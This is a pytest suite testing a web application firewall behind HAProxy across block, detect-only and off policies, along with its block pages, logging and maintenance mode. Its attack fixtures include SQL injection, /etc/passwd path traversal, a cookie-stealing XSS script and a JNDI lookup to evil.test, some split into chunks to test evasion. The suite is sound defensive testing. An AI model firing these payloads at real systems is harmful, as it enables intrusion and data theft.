"""Where attacks hide, through HAProxy and the agent."""

import json
from collections.abc import Callable, Iterator

import pytest

from tests.live.origins import Origin
from tests.live.stack import Stack
from tests.live.wire import Response
from tests.rows import rows

SQL = "1' OR '1'='1"
QUERY = "/?q=1%27%20OR%20%271%27%3D%271"
SCRIPT = b"<script>alert(document.cookie)</script>"

Attack = Callable[[Stack, str], Response]


def multipart(stack: Stack, host: str) -> Response:
    body = b'--xyz\r\nContent-Disposition: form-data; name="comment"\r\n\r\n' + SCRIPT + b"\r\n--xyz--\r\n"
    return stack.post(host, body, "multipart/form-data; boundary=xyz")


ATTACKS: dict[str, Attack] = {
    "query": lambda stack, host: stack.get(host, QUERY),
    "path": lambda stack, host: stack.get(host, "/../../etc/passwd"),
    "header": lambda stack, host: stack.get(host, "/", {"referer": "http://x/?q=" + SQL}),
    "user agent": lambda stack, host: stack.get(host, "/", {"user-agent": "${jndi:ldap://evil.test/a}"}),
    "cookie": lambda stack, host: stack.get(host, "/", {"cookie": "session=" + SQL}),
    "form": lambda stack, host: stack.post(host, b"a=1&q=" + SCRIPT, "application/x-www-form-urlencoded"),
    "JSON": lambda stack, host: stack.post(host, b'{"a": {"q": "%b"}}' % SCRIPT, "application/json"),
    "multipart": multipart,
    "chunked form": lambda stack, host: stack.chunked(
        host, [b"a=1&q=", SCRIPT[:7], SCRIPT[7:]], "application/x-www-form-urlencoded"
    ),
    "chunks of one byte": lambda stack, host: stack.chunked(
        host, [bytes([byte]) for byte in b"a=1&q=" + SCRIPT], "application/x-www-form-urlencoded"
    ),
}


@pytest.fixture(scope="module")
def stack(haproxy: str, server: Origin) -> Iterator[Stack]:
    common = {"servers": [{"address": server.address}], "health_check": False, "https": True}
    given = rows(
        {
            "Block": {"enforcement_mode": "block"},
            "Watch": {"enforcement_mode": "detect_only"},
            "Off": {"enforcement_mode": "off"},
        },
        {
            "block.test": {"policy": "Block", **common},
            "watch.test": {"policy": "Watch", **common},
            "off.test": {"policy": "Off", **common},
            "none.test": {**common},
            "own-mode.test": {"policy": "Watch", "enforcement_mode": "block", **common},
            "resting.test": {"policy": "Block", "maintenance": True, **common},
        },
    )
    with Stack(haproxy, given) as running:
        yield running


@pytest.mark.parametrize("place", ATTACKS)
def test_a_blocking_policy_stops_the_attack(channel: Stack, server: Origin, place: str) -> None:
    before = len(server.received)

    answer = ATTACKS[place](channel, "block.test")

    assert answer.status == 403
    assert answer.verdict["verdict"] == "blocked"
    assert answer.verdict["action"] == "deny"
    assert answer.verdict["rule"] == "949110"
    assert len(server.received) == before


@pytest.mark.parametrize("place", ATTACKS)
def test_detect_only_passes_the_attack_and_tells_score_and_rules(channel: Stack, place: str) -> None:
    answer = ATTACKS[place](channel, "watch.test")

    assert answer.status == 200
    assert answer.seen["method"]
    assert int(answer.verdict["score"]) >= 5
    rules = answer.verdict["rules"].split(",")
    assert "949110" in rules
    assert len(rules) > 1
    assert answer.verdict["action"] == ""


@pytest.mark.parametrize("place", ATTACKS)
def test_without_a_policy_nothing_is_judged(channel: Stack, place: str) -> None:
    for host in ("off.test", "none.test"):
        answer = ATTACKS[place](channel, host)

        assert answer.status == 200
        assert answer.verdict["score"] == ""
        assert answer.verdict["application"] == "-"


def test_a_virtual_host_may_block_with_a_policy_that_only_detects(channel: Stack) -> None:
    assert channel.get("own-mode.test", QUERY).status == 403
    assert channel.get("watch.test", QUERY).status == 200


@pytest.mark.parametrize("host", ["block.test", "watch.test"])
def test_harmless_requests_pass_with_score_zero(channel: Stack, host: str) -> None:
    answers = [
        channel.get(host, "/articles?page=2&sort=name"),
        channel.post(host, b"name=Ada&city=London", "application/x-www-form-urlencoded"),
        channel.post(host, json.dumps({"name": "Ada", "tags": ["a", "b"]}).encode(), "application/json"),
        channel.request("HEAD", host, "/"),
    ]

    assert [answer.status for answer in answers] == [200] * 4
    assert [answer.verdict["score"] for answer in answers] == ["0"] * 4
    assert [answer.verdict["error"] for answer in answers] == [""] * 4


def test_a_body_that_comes_after_its_headers_is_waited_for(stack: Stack) -> None:
    body = b"q=" + SCRIPT
    head = b"POST / HTTP/1.1\r\nHost: block.test\r\nUser-Agent: m\r\nAccept: */*\r\n"
    head += b"Content-Type: application/x-www-form-urlencoded\r\n"

    late = stack.send(head + b"Content-Length: %d\r\n\r\n" % len(body), 0.3, body)
    in_pieces = stack.send(head + b"Content-Length: %d\r\n\r\n" % len(body), 0.1, body[:20], 0.1, body[20:])
    chunked = stack.send(
        head + b"Transfer-Encoding: chunked\r\n\r\n",
        0.1,
        b"%x\r\n%b\r\n" % (len(body), body),
        0.2,
        b"0\r\n\r\n",
    )

    assert [late.status, in_pieces.status, chunked.status] == [403] * 3


def test_expect_100_continue_is_answered(stack: Stack) -> None:
    head = b"POST / HTTP/1.1\r\nHost: watch.test\r\nConnection: close\r\nContent-Type: text/plain\r\n"
    head += b"Content-Length: 5\r\nExpect: 100-continue\r\n\r\n"
    with stack.connect() as connection:
        connection.sendall(head)
        assert connection.recv(1000).startswith(b"HTTP/1.1 100 ")
        connection.sendall(b"hello")

        assert stack.answer(connection, head).seen["length"] == 5


def test_the_block_page_shows_the_request_id_and_nothing_of_the_request(channel: Stack) -> None:
    answer = channel.get("block.test", QUERY + "&x=%3Cscript%3E", {"cookie": "a=needle", "referer": "http://needle/"})
    again = channel.get("block.test", QUERY)

    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["cache-control"] == "no-store"
    request_id = answer.verdict["request-id"]
    assert request_id in answer.text
    assert answer.text.replace(request_id, again.verdict["request-id"]) == again.text
    assert not any(word in answer.text for word in ("needle", "script", "block.test", "949110", "Coraza", "HAProxy"))
    assert "server" not in answer.headers


def test_a_visitor_sees_no_verdict_headers(channel: Stack) -> None:
    for target in ("/", QUERY):
        answer = channel.get("block.test", target, {"x-gp-test": "wrong"})

        assert answer.verdict == {}


def test_the_request_id_of_page_server_and_log_is_one(channel: Stack) -> None:
    passed = channel.get("watch.test", "/the-same-id")
    blocked = channel.get("block.test", QUERY)

    assert passed.seen_headers["x-request-id"] == passed.verdict["request-id"]
    assert channel.logged(passed)["path"] == "/the-same-id"
    line = channel.logged(blocked)
    assert (line["status"], line["verdict"], line["rule"], line["virtual_host"]) == (
        403,
        "blocked",
        "949110",
        "1",
    )


def test_maintenance_answers_for_the_servers(channel: Stack, server: Origin) -> None:
    before = len(server.received)

    answer = channel.get("resting.test", "/")

    assert answer.status == 503
    assert "Under maintenance" in answer.text
    assert answer.headers["retry-after"] == "300"
    assert answer.verdict["verdict"] == "maintenance"
    assert len(server.received) == before


def test_each_application_proves_that_it_judges(stack: Stack) -> None:
    for application in stack.bundle.applications:
        clean = stack.probe(application.name)
        attack = stack.probe(application.name, headers={"x-gp-attack": "1"})

        assert (clean.status, clean.verdict["error"], clean.verdict["action"]) == (200, "", "")
        assert "190100" not in clean.verdict["rules"]
        assert "190100" in attack.verdict["rules"].split(",")
        assert attack.verdict["action"] == ("deny" if application.blocks else "")
        assert attack.verdict["rule"] == ("100101" if application.blocks else "")
        assert attack.verdict["checksum"] == stack.bundle.checksum


def test_a_probe_for_an_unknown_application_is_answered_with_an_error(stack: Stack) -> None:
    answer = stack.probe("p000000000000")

    assert answer.status == 200
    assert int(answer.verdict["error"]) > 0
    assert answer.verdict["again"] == ""
